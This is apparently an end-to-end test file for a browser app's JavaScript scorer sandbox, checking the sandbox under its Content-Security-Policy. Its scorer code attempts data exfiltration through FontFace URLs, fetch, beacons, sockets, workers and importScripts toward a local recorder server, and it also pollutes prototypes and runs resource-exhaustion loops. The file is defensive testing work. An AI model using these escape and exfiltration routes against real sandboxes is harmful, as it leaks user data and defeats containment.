/**
 * The custom JavaScript scorer sandbox in Chromium, through the app: scorer code tries every route
 * out of the sandbox it can name (FontFace and `self.fonts` to a local HTTP server, fetch, beacons,
 * sockets, nested workers…), poisons built-ins for the next job, recurses, allocates and spins
 * forever, and the jobs after it still work. A second run serves the app with its own
 * Content-Security-Policy as a response header, so the scorer worker runs under it too (a
 * worker's policy comes from its script's response, not from the page).
 */
import { createServer, type IncomingMessage, type Server } from 'node:http';
import { readFile } from 'node:fs/promises';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import {
	addProvider,
	commitPrompt,
	contextPerTest,
	createTextPrompt,
	launchBrowser,
	pageErrors
} from './browser';

const app = contextPerTest();

/** Host-provided names scorer code must not see (each tried on the global and its prototypes). */
const HOST_NAMES = [
	'FontFace',
	'fonts',
	'fetch',
	'XMLHttpRequest',
	'WebSocket',
	'WebTransport',
	'EventSource',
	'importScripts',
	'navigator',
	'reportError',
	'postMessage',
	'Worker',
	'SharedWorker',
	'indexedDB',
	'caches',
	'BroadcastChannel',
	'self',
	'location',
	'setTimeout',
	'console'
];

/** Every ECMAScript global (plus QuickJS's InternalError); anything else on `globalThis` is the host's. */
const LANGUAGE_GLOBALS =
	'globalThis,Infinity,NaN,undefined,isFinite,isNaN,parseFloat,parseInt,decodeURI,' +
	'decodeURIComponent,encodeURI,encodeURIComponent,escape,unescape,AggregateError,Array,' +
	'ArrayBuffer,Atomics,BigInt,BigInt64Array,BigUint64Array,Boolean,DataView,Date,Error,EvalError,' +
	'FinalizationRegistry,Float16Array,Float32Array,Float64Array,Function,Int8Array,Int16Array,' +
	'Int32Array,Intl,Iterator,JSON,Map,Math,Number,Object,Promise,Proxy,RangeError,ReferenceError,' +
	'Reflect,RegExp,Set,SharedArrayBuffer,String,Symbol,SyntaxError,TypeError,Uint8Array,' +
	'Uint8ClampedArray,Uint16Array,Uint32Array,URIError,WeakMap,WeakRef,WeakSet,InternalError';

/** One scorer for every row; `context.vars.case` picks what it tries. */
const SCORER = `const c = context.vars.case;
const url = context.vars.url;
if (c === 'probe') {
  const open = [];
  for (const n of ${JSON.stringify(HOST_NAMES)}) {
    let o = globalThis;
    while (o) { const d = Object.getOwnPropertyDescriptor(o, n); if (d && (d.get || d.value !== undefined)) { open.push(n); break; } o = Object.getPrototypeOf(o); }
  }
  const known = new Set('${LANGUAGE_GLOBALS}'.split(','));
  const extra = Object.getOwnPropertyNames(globalThis).filter((n) => !known.has(n) && !open.includes(n));
  const all = open.concat(extra);
  return { pass: all.length === 0, score: all.length ? 0 : 1, reason: 'reachable: ' + (all.join(',') || 'nothing') };
}
if (c === 'fontface') {
  const face = new FontFace('leak', 'url(' + url + '/fontface?d=' + encodeURIComponent(output) + ')');
  self.fonts.add(face);
  return face.load().then(() => true, () => true);
}
if (c === 'routes') {
  const tries = [
    () => fetch(url + '/fetch'),
    () => { const x = new XMLHttpRequest(); x.open('GET', url + '/xhr'); x.send(); },
    () => new WebSocket(url.replace('http', 'ws') + '/ws'),
    () => new EventSource(url + '/sse'),
    () => importScripts(url + '/script.js'),
    () => navigator.sendBeacon(url + '/beacon', output),
    () => new Worker(url + '/worker.js'),
    () => fonts.load('12px leak'),
    () => reportError(new Error('leak ' + output)),
    () => postMessage('leak'),
    () => indexedDB.open('leak'),
    () => caches.open('leak')
  ];
  let reached = 0;
  for (const t of tries) { try { t(); reached++; } catch (e) {} }
  return { pass: reached === 0, score: reached ? 0 : 1, reason: 'routes reached: ' + reached };
}
if (c === 'poison') {
  String.prototype.includes = function () { return true; };
  Object.prototype.polluted = 'yes';
  globalThis.leftover = output;
  return true;
}
if (c === 'check' || c === 'after') {
  const clean = 'abc'.includes('z') === false && ({}).polluted === undefined && typeof leftover === 'undefined';
  return { pass: clean, score: clean ? 1 : 0, reason: clean ? 'clean' : 'state leaked from an earlier job' };
}
if (c === 'deep') { const f = (n) => f(n + 1) + 1; return f(0); }
if (c === 'memory') { const a = []; for (;;) a.push(new Array(100000).fill(a.length)); }
if (c === 'loop') { while (true) {} }
return output.includes('ok');`;

interface ScoreCell {
	pass: boolean;
	reason: string;
}

/**
 * Adds the test LLM as a provider, commits a prompt, imports a dataset with one row per case
 * (`url` in every row), runs an evaluation with `code` as its only scorer at concurrency 1, and
 * returns each case's javascript score.
 */
async function runScorerEvaluation(
	page: Page,
	cases: string[],
	url: string,
	code: string
): Promise<Record<string, ScoreCell>> {
	page.setDefaultTimeout(15000);
	await page.addLocatorHandler(page.getByTestId('offline-ready'), (banner) =>
		banner.getByRole('button', { name: 'OK' }).click()
	);
	await addProvider(page, {
		kind: 'OpenAI-compatible server',
		name: 'Mock',
		id: 'mock',
		baseUrl: `${inject('llmUrl')}/v1`,
		models: 'gpt-4o-mini',
		key: 'sk-e2e-sandbox'
	});
	await createTextPrompt(page, 'sandboxed', 'Case {{ case }} at {{ url }}: reply with exactly: ok');
	await commitPrompt(page, 'v1');

	await page.getByRole('link', { name: 'Datasets' }).click();
	await page.getByLabel('Dataset file').setInputFiles({
		name: 'cases.csv',
		mimeType: 'text/csv',
		buffer: Buffer.from(['case,url,expected', ...cases.map((c) => `${c},${url},ok`)].join('\n'))
	});
	await page.getByRole('button', { name: `Import ${cases.length} rows` }).click();
	await page.waitForURL(/\/datasets\/[^/]+$/);

	await page.getByRole('link', { name: 'Evaluations' }).click();
	await page.getByRole('link', { name: '+ New evaluation' }).click();
	await page.getByLabel('Evaluation name').fill('sandbox');
	await page.getByLabel('Prompt', { exact: true }).selectOption({ label: 'sandboxed' });
	const versions = page.getByRole('checkbox', { name: /^Use sandboxed@/ });
	await expect.poll(() => versions.count()).toBe(1);
	await versions.first().check();
	await page.getByLabel('Model 1', { exact: true }).fill('mock:gpt-4o-mini');
	await page.getByLabel('Scorer 1', { exact: true }).selectOption('javascript');
	await page.getByLabel('Value of scorer 1').fill(code);
	await page.getByLabel('Concurrency').fill('1');
	await page.getByRole('button', { name: 'Estimate cost' }).click();
	await page.getByRole('button', { name: 'Start evaluation' }).click();
	await page.waitForURL(/\/evals\/[^/]+$/);
	await expect
		.poll(() => page.getByTestId('run-status').textContent(), { timeout: 45000 })
		.toBe('completed');

	const rows = page.locator('tr[data-result]');
	await expect.poll(() => rows.count()).toBe(cases.length);
	const cells = await rows.evaluateAll((trs) =>
		trs.map((tr) => {
			const score = tr.querySelector('.score');
			return {
				input: tr.querySelector('td:nth-child(4)')?.textContent ?? '',
				pass: !!score && !score.classList.contains('bad'),
				reason: score?.getAttribute('title') ?? tr.querySelector('.error-text')?.textContent ?? ''
			};
		})
	);
	const byCase: Record<string, ScoreCell> = {};
	for (const c of cells) {
		const name = /case:\s*(\w+)/.exec(c.input)?.[1] ?? c.input;
		byCase[name] = { pass: c.pass, reason: c.reason };
	}
	return byCase;
}

/** An HTTP server on 127.0.0.1 that records every request it gets (the exfiltration target). */
async function startRecorder(): Promise<{ url: string; hits: string[]; server: Server }> {
	const hits: string[] = [];
	const server = createServer((req: IncomingMessage, res) => {
		hits.push(`${req.method} ${req.url}`);
		res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/plain' });
		res.end('ok');
	});
	await new Promise<void>((ok) => server.listen(0, '127.0.0.1', ok));
	const address = server.address();
	const port = typeof address === 'object' && address ? address.port : 0;
	return { url: `http://127.0.0.1:${port}`, hits, server };
}

const close = (server: Server) => new Promise<void>((ok) => server.close(() => ok()));

describe('custom JavaScript scorer sandbox in the browser', () => {
	let recorder: Awaited<ReturnType<typeof startRecorder>>;
	beforeAll(async () => {
		recorder = await startRecorder();
	});
	afterAll(async () => {
		await close(recorder.server);
	});

	it('reaches no host API or network, keeps no state between jobs and survives a runaway job', async () => {
		const page = await app.open('/settings');
		const scores = await runScorerEvaluation(
			page,
			[
				'probe',
				'fontface',
				'routes',
				'poison',
				'check',
				'deep',
				'memory',
				'loop',
				'after',
				'plain'
			],
			recorder.url,
			SCORER
		);
		// Give any request a leaked font load or beacon might still make time to arrive.
		await page.waitForTimeout(1000);
		expect(recorder.hits).toEqual([]);
		expect(scores).toEqual({
			probe: { pass: true, reason: 'reachable: nothing' },
			fontface: {
				pass: false,
				reason: expect.stringMatching(/^custom JavaScript failed: .*FontFace.* is not defined/)
			},
			routes: { pass: true, reason: 'routes reached: 0' },
			poison: { pass: true, reason: 'custom check returned true' },
			check: { pass: true, reason: 'clean' },
			deep: {
				pass: false,
				reason: 'custom JavaScript exceeded its stack limit (recursion too deep)'
			},
			memory: { pass: false, reason: 'custom JavaScript exceeded its memory limit of 64 MB' },
			loop: { pass: false, reason: 'custom JavaScript exceeded its time limit of 1000 ms' },
			after: { pass: true, reason: 'clean' },
			plain: { pass: true, reason: 'custom check returned true' }
		});
		expect(pageErrors(page)).toEqual([]);
	});

	describe('under the app’s Content-Security-Policy as a response header', () => {
		let browser: Browser;
		let proxy: Server;
		let proxyUrl: string;
		beforeAll(async () => {
			const root = process.env.BUILD_DIR ?? 'build';
			const html = await readFile(`${root}/index.html`, 'utf8');
			const csp = /http-equiv="content-security-policy" content="([^"]+)"/.exec(html)?.[1];
			if (!csp) throw new Error(`${root}/index.html has no Content-Security-Policy`);
			expect(csp).toContain("'wasm-unsafe-eval'");
			expect(csp).not.toContain("'unsafe-eval'");
			// Forwards to the static app server and adds the app's policy to every response,
			// scripts of workers included.
			const upstream = inject('appUrl');
			proxy = createServer((req, res) => {
				void fetch(new URL(req.url ?? '/', upstream))
					.then(async (r) => {
						res.writeHead(r.status, {
							'content-type': r.headers.get('content-type') ?? 'application/octet-stream',
							'cache-control': 'no-cache',
							'content-security-policy': csp
						});
						res.end(Buffer.from(await r.arrayBuffer()));
					})
					.catch((e: unknown) => res.writeHead(502).end(String(e)));
			});
			await new Promise<void>((ok) => proxy.listen(0, '127.0.0.1', ok));
			const address = proxy.address();
			proxyUrl = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
			browser = await launchBrowser();
		});
		afterAll(async () => {
			await browser?.close();
			if (proxy) await close(proxy);
		});

		it('runs scorers without eval in the worker, and FontFace stays unreachable', async () => {
			const context = await browser.newContext();
			const page = await context.newPage();
			const errors: string[] = [];
			page.on('pageerror', (e) => errors.push(e.message));
			const violations: string[] = [];
			page.on('console', (m) => {
				if (/Content Security Policy|unsafe-eval/i.test(m.text())) violations.push(m.text());
			});
			await page.goto(`${proxyUrl}/settings`);
			await page.locator('main').getByText('Opening your library…').waitFor({ state: 'detached' });
			const scores = await runScorerEvaluation(
				page,
				['plain', 'fontface', 'poison', 'check'],
				recorder.url,
				SCORER
			);
			expect(scores).toEqual({
				plain: { pass: true, reason: 'custom check returned true' },
				fontface: { pass: false, reason: expect.stringMatching(/FontFace.* is not defined/) },
				poison: { pass: true, reason: 'custom check returned true' },
				check: { pass: true, reason: 'clean' }
			});
			expect(recorder.hits).toEqual([]);
			expect(violations).toEqual([]);
			expect(errors).toEqual([]);
			await context.close();
		});
	});
});
